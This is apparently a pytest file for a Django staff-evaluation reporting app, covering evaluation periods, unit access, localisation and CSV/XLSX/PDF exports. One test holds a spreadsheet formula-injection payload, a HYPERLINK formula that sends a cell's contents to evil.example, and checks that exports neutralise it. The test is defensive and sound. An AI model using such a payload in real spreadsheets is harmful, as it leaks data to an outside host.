import csv
import datetime
import io
import re

import openpyxl
import pytest
from pypdf import PdfReader

from lms.models import StaffProfile
from reports.models import AuditEntry, EvaluationPeriod, PeriodStatus
from reports.services.evaluation import evaluation_period_open


@pytest.fixture
def period(hr_eu, org, vn):
    return evaluation_period_open(
        actor=hr_eu.user,
        unit=org["EU"],
        name="Năm 2026",
        starts_on=datetime.date(2026, 1, 1),
        ends_on=datetime.date(2026, 12, 31),
    )


def _pdf_text(response) -> str:
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_open_period_by_form_and_bad_input(client, hr_eu, org, vn):
    client.force_login(hr_eu.user)
    bad = client.post(
        "/reports/evaluations/",
        {"name": "Năm 2026", "unit": org["EU"].pk, "starts_on": "2026-12-31", "ends_on": "2026-01-01"},
    )
    assert bad.status_code == 400 and not EvaluationPeriod.objects.exists()
    outside = client.post(
        "/reports/evaluations/", {"name": "x", "unit": org["JP"].pk, "starts_on": "2026-01-01", "ends_on": "2026-12-31"}
    )
    assert outside.status_code == 400 and not EvaluationPeriod.objects.exists()
    ok = client.post(
        "/reports/evaluations/",
        {"name": "Năm 2026", "unit": org["EU"].pk, "starts_on": "2026-01-01", "ends_on": "2026-12-31"},
    )
    period = EvaluationPeriod.objects.get()
    assert ok.status_code == 302 and ok["Location"] == f"/reports/evaluations/{period.pk}/"
    assert AuditEntry.objects.filter(action="evaluation.open").count() == 1


def test_period_page_comment_close_and_reopen(client, hr_eu, period, scored, people):
    client.force_login(hr_eu.user)
    page = client.get(f"/reports/evaluations/{period.pk}/").content.decode()
    assert "Nguyễn Thị Ánh Tuyết" in page and "Phạm Quốc Việt" not in page
    client.post(f"/reports/evaluations/{period.pk}/people/{people['fr1'].pk}/", {"comment": "Tích cực học tập."})
    assert client.get(f"/reports/evaluations/{period.pk}/").content.decode().count("Tích cực học tập.") == 1
    assert client.get(f"/reports/evaluations/{period.pk}/close").status_code == 405
    confirm = client.post(f"/reports/evaluations/{period.pk}/close")
    assert confirm.status_code == 200 and 'name="confirm"' in confirm.content.decode()
    assert confirm.context["preview"]["people"] == 3
    period.refresh_from_db()
    assert period.status == PeriodStatus.OPEN  # nothing frozen before the confirmation
    client.post(f"/reports/evaluations/{period.pk}/close", {"confirm": "1"})
    period.refresh_from_db()
    assert period.status == PeriodStatus.CLOSED
    closed_page = client.get(f"/reports/evaluations/{period.pk}/").content.decode()
    assert "Tích cực học tập." in closed_page and "hr_eu" in closed_page
    client.post(f"/reports/evaluations/{period.pk}/reopen", {"reason": ""})
    period.refresh_from_db()
    assert period.status == PeriodStatus.CLOSED
    client.post(f"/reports/evaluations/{period.pk}/reopen", {"reason": "Bổ sung minh chứng"})
    period.refresh_from_db()
    assert period.status == PeriodStatus.OPEN


def test_evaluation_exports_round_trip_vietnamese(client, hr_eu, period, scored):
    client.force_login(hr_eu.user)
    body = b"".join(client.get(f"/reports/export/evaluation.csv?period={period.pk}").streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert {r[1] for r in rows[1:]} == {"Nguyễn Thị Ánh Tuyết", "Trần Đức Thắng", "Lê Thị Hồng Nhung"}
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/reports/export/evaluation.xlsx?period={period.pk}").content))
    names = {row[1] for row in book.active.iter_rows(min_row=2, values_only=True)}
    assert "Lê Thị Hồng Nhung" in names
    assert client.get("/reports/export/evaluation.csv").status_code == 404  # a period is needed


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_person_pdf_keeps_the_vietnamese_name(client, hr_eu, period, scored, people, lang):
    client.force_login(hr_eu.user)
    text = _pdf_text(client.get(f"/reports/evaluations/{period.pk}/people/{people['fr1'].pk}.pdf?lang={lang}"))
    assert "Nguyễn Thị Ánh Tuyết" in text
    assert ("Digital-competency index" in text) if lang == "en" else ("Ánh Tuyết" in text)
    assert AuditEntry.objects.filter(action="reports.export", params__format="pdf").exists()


def test_unit_summary_pdf(client, hr_eu, period, scored, org):
    client.force_login(hr_eu.user)
    text = _pdf_text(client.get(f"/reports/evaluations/{period.pk}/summary.pdf?unit={org['FR'].pk}&lang=vi"))
    assert "Trần Đức Thắng" in text and "Lê Thị Hồng Nhung" not in text
    assert client.get(f"/reports/evaluations/{period.pk}/summary.pdf?unit={org['JP'].pk}").status_code == 404


def test_ministry_period_is_visible_to_regional_hr_for_their_people_only(client, hr_eu, admin_user, org, people, vn):
    ministry = evaluation_period_open(
        actor=admin_user,
        unit=org["BNG"],
        name="Năm 2026",
        starts_on=datetime.date(2026, 1, 1),
        ends_on=datetime.date(2026, 12, 31),
    )
    client.force_login(hr_eu.user)
    page = client.get(f"/reports/evaluations/{ministry.pk}/").content.decode()
    assert "Nguyễn Thị Ánh Tuyết" in page and "Phạm Quốc Việt" not in page
    assert "Close the period" not in page and "Khoá sổ kỳ" not in page
    client.post(f"/reports/evaluations/{ministry.pk}/close")
    client.post(f"/reports/evaluations/{ministry.pk}/close", {"confirm": "1"})
    ministry.refresh_from_db()
    assert ministry.status == PeriodStatus.OPEN
    assert client.get(f"/reports/evaluations/{ministry.pk}/people/{people['jp1'].pk}/").status_code == 404


def test_evaluation_exports_neutralise_formula_like_comments_and_names(client, hr_eu, period, scored, people):
    # given a comment and a name that a spreadsheet would run as formulas
    comment = '=HYPERLINK("https://evil.example/?d="&B2,"Xem")'
    StaffProfile.objects.filter(pk=people["fr2"].pk).update(full_name="=1+2")
    client.force_login(hr_eu.user)
    client.post(f"/reports/evaluations/{period.pk}/people/{people['fr1'].pk}/", {"comment": comment})

    # when exported as CSV, then both come out apostrophe-prefixed
    body = b"".join(client.get(f"/reports/export/evaluation.csv?period={period.pk}").streaming_content)
    rows = {r[0]: r for r in csv.reader(io.StringIO(body.decode("utf-8-sig")))}
    assert rows[people["fr1"].employee_number][-1] == "'" + comment
    assert rows[people["fr2"].employee_number][1] == "'=1+2"

    # and as XLSX, they are text cells, not formulas
    response = client.get(f"/reports/export/evaluation.xlsx?period={period.pk}")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    by_number = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    comment_cell = by_number[people["fr1"].employee_number][-1]
    name_cell = by_number[people["fr2"].employee_number][1]
    assert comment_cell.value == "'" + comment and comment_cell.data_type == "s"
    assert name_cell.value == "'=1+2" and name_cell.data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_english_evaluation_pdf_has_no_vietnamese_fields_and_no_lone_heading(
    client, hr_eu, period, scored, people, target_chuyen_vien
):
    """The English PDF showed the Vietnamese target profile, position and band, and left the heading of the
    competency table alone at the foot of page 1."""
    from lms.models import PositionTitle

    PositionTitle.objects.create(name_vi="Chuyên viên", name_en="Officer")
    client.force_login(hr_eu.user)
    response = client.get(f"/reports/evaluations/{period.pk}/people/{people['fr2'].pk}.pdf?lang=en")
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages]
    text = "\n".join(pages)
    assert "Target profile: Officer" in text and "Position" in text and "Officer" in text
    # Only the person's name and the period's own name may be Vietnamese.
    rest = text.replace("Trần Đức Thắng", "").replace(period.name, "")
    assert not [
        w for w in rest.split() if any(ch in w for ch in "ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệịỉĩọỏốồổỗộớờởỡợụủứừửữựỳỷỹỵ")
    ]
    heading = "Competencies against the target"
    assert heading not in pages[0] and pages[1].lstrip().startswith(heading)


def test_the_unit_summary_pdf_prints_whole_head_counts_and_whole_unit_names(client, hr_eu, period, scored, org):
    from lms.models import Unit

    Unit.objects.filter(pk=org["DE"].pk).update(name_en="Permanent Mission of Viet Nam to the United Nations Office")
    client.force_login(hr_eu.user)
    text = _pdf_text(client.get(f"/reports/evaluations/{period.pk}/summary.pdf?lang=en"))
    assert "Permanent Mission of Viet Nam to the United" in text and "Nations Office" in text
    assert not re.search(r"\b\d+\.0\b", text.split("People\n", 1)[0])  # head counts: "3", never "3.0"
    assert "Hoàn thành" not in text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_evaluation_export_is_the_table_on_the_page(client, hr_eu, period, scored, target_chuyen_vien, fmt):
    """The page once showed 8 columns (some combined) and the export 15."""
    client.force_login(hr_eu.user)
    page = client.get(f"/reports/evaluations/{period.pk}/").content.decode()
    table = page.split("<table>", 1)[1].split("</table>", 1)[0]
    headers = [re.sub(r"<[^>]+>", "", h).strip() for h in re.findall(r"<th[^>]*>(.*?)</th>", table, re.S)]
    page_rows = [
        [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", tr, re.S)]
        for tr in re.findall(r"<tr>(.*?)</tr>", table.split("<tbody>", 1)[1], re.S)
    ]
    response = client.get(f"/reports/export/evaluation.{fmt}?period={period.pk}")
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    else:
        book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
        rows = [["" if v is None else str(v) for v in r] for r in book.active.iter_rows(values_only=True)]
    assert rows[0] == headers and len(headers) == 17  # with coverage and what is not measured
    if fmt == "xlsx":  # numbers are numbers in a workbook (shown with the reader's decimal mark by the number format)
        page_rows = [[re.sub(r"^(\d+),(\d+)$", r"\1.\2", c) for c in r] for r in page_rows]
    assert sorted([c or "" for c in r] for r in rows[1:]) == sorted(page_rows)


def test_a_period_reads_in_english_on_english_pages_and_pdfs(client, hr_eu, org, vn, scored, people):
    from django.conf import settings

    period = evaluation_period_open(
        actor=hr_eu.user,
        unit=org["EU"],
        name="Đánh giá năm 2026",
        name_en="2026 evaluation",
        starts_on=datetime.date(2026, 1, 1),
        ends_on=datetime.date(2026, 12, 31),
    )
    client.force_login(hr_eu.user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    for url in ("/reports/evaluations/", f"/reports/evaluations/{period.pk}/"):
        page = client.get(url).content.decode()
        assert "2026 evaluation" in page and "Đánh giá năm 2026" not in page, url
    pdf = _pdf_text(client.get(f"/reports/evaluations/{period.pk}/people/{people['fr1'].pk}.pdf?lang=en"))
    assert "2026 evaluation" in pdf and "Đánh giá năm 2026" not in pdf
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "vi"
    assert "Đánh giá năm 2026" in client.get(f"/reports/evaluations/{period.pk}/").content.decode()
    # the form takes both names
    client.post(
        "/reports/evaluations/",
        {
            "name": "Năm 2027",
            "name_en": "Year 2027",
            "unit": org["EU"].pk,
            "starts_on": "2027-01-01",
            "ends_on": "2027-12-31",
        },
    )
    assert EvaluationPeriod.objects.get(name="Năm 2027").name_en == "Year 2027"


def test_a_closed_periods_english_export_names_the_target_profile_in_english(
    client, hr_eu, period, scored, target_chuyen_vien, people
):
    from django.conf import settings

    from reports.services.evaluation import evaluation_period_close

    evaluation_period_close(actor=hr_eu.user, period=period)  # records keep the name as it read then
    client.force_login(hr_eu.user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    body = b"".join(client.get(f"/reports/export/evaluation.csv?period={period.pk}").streaming_content)
    text = body.decode("utf-8-sig")
    assert "Officer" in text and ",Chuyên viên," not in text.replace("Chuyên viên,Officer", "")
    page = client.get(f"/reports/evaluations/{period.pk}/").content.decode()
    assert "<td>Officer</td>" in page


def test_a_closed_periods_english_person_page_and_pdf_name_the_target_profile_in_english(
    client, hr_eu, period, scored, target_chuyen_vien, people
):
    from django.conf import settings

    from reports.services.evaluation import evaluation_period_close

    evaluation_period_close(actor=hr_eu.user, period=period)
    client.force_login(hr_eu.user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.get(f"/reports/evaluations/{period.pk}/people/{people['fr2'].pk}/").content.decode()
    assert "<dd>Officer</dd>" in page
    pdf = _pdf_text(client.get(f"/reports/evaluations/{period.pk}/people/{people['fr2'].pk}.pdf?lang=en"))
    assert "Target profile: Officer" in pdf
